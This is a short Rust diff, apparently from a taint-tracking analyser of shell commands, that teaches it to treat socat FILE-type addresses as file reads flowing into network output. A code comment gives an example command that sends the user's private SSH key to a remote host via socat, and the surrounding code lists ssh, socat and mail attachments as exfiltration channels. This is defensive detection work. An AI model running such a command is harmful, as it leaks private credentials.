@@ -443,6 +443,14 @@ pub(crate) fn send(m: &mut Machine, name: &str, args: &[Value], stdin: &Value, l
                 if name == "ssh" || name == "socat" {
                     sent.taint.join(&args[i].taint);
                 }
+                // `socat FILE:~/.ssh/id_rsa TCP:host:port`: an address that is a file reads it.
+                if name == "socat"
+                    && let Some((kind, rest)) = t.split_once(':')
+                    && matches!(kind.to_ascii_uppercase().as_str(), "FILE" | "OPEN" | "GOPEN" | "CREATE")
+                {
+                    let path = rest.split(',').next().unwrap_or(rest);
+                    sent.taint.join(&m.read_file(path, line).taint);
+                }
                 if matches!(name, "mail" | "mailx" | "mutt")
                     && matches!(t, "-a" | "-A")
                     && let Some(p) = texts.get(i + 1)
